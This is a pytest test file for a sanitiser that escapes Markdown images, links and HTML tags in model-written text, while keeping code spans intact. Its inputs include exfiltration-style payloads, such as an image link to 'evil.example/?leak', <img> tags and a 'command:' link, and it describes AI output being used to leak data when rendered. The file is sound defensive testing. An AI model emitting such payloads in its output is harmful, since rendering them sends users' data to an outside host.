"""What a model wrote, drawn as Markdown: nothing in it reaches out, and code keeps its text."""

from __future__ import annotations

import pytest

from lsp_server.untrusted import harmless

IMAGE = "![x](https://evil.example/?leak)"
DEAD = "!&#91;x&#93;(https://evil.example/?leak)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It splits a line.", "It splits a line."),
        (f"It {IMAGE} splits.", f"It {DEAD} splits."),
        (r"![x\\](u)", r"!&#91;x\\&#93;(u)"),
        ("https://a.example/<img src=x>", "https://a.example/&lt;img src=x>"),
        ("![x][r]\n\n[r]: https://evil.example", "![x][r]\n\n[r&#93;: https://evil.example"),
        ('<img src="https://evil.example">', '&lt;img src="https://evil.example">'),
        ("a < b and a <= b", "a < b and a <= b"),
        ("[safe](command:evil)", "&#91;safe&#93;(command:evil)"),
    ],
)
def test_images_links_and_tags_are_shown_as_text(text: str, shown: str) -> None:
    assert harmless(text) == shown


@pytest.mark.parametrize(
    "code",
    [
        f"Returns `{IMAGE}`.",
        "Returns `a[0](b)` and `List<String>`.",
        f"```md\n{IMAGE}\n```",
        f"Before.\n\n~~~~\n{IMAGE}\n~~~~\nAfter `<b>`.",
    ],
)
def test_code_keeps_its_text(code: str) -> None:
    assert harmless(code) == code


def test_a_span_is_kept_beside_an_image() -> None:
    assert harmless(f"`{IMAGE}` and {IMAGE}") == f"`{IMAGE}` and {DEAD}"


@pytest.mark.parametrize(
    "before",
    [
        "\\`",
        "`open\n",
        "`a\nb` ",
        "| ` | ",
        "https://a.example/`c ",
        "https://a.example/<b`c ",
        "[a ``b` ",
        "[a ``]() ",
        "- a\n\n  ```\n",
        "> ```\n",
        "```\n```~\n",
        "``` a`b\n",
    ],
)
def test_what_only_looks_like_code_is_not_spared(before: str) -> None:
    """Renderers differ in what they take for code; a tick that one of them does not pair must not shelter an image."""
    assert IMAGE not in harmless(f"{before}{IMAGE} `")
    assert IMAGE not in harmless(f"{before}{IMAGE}\n```")
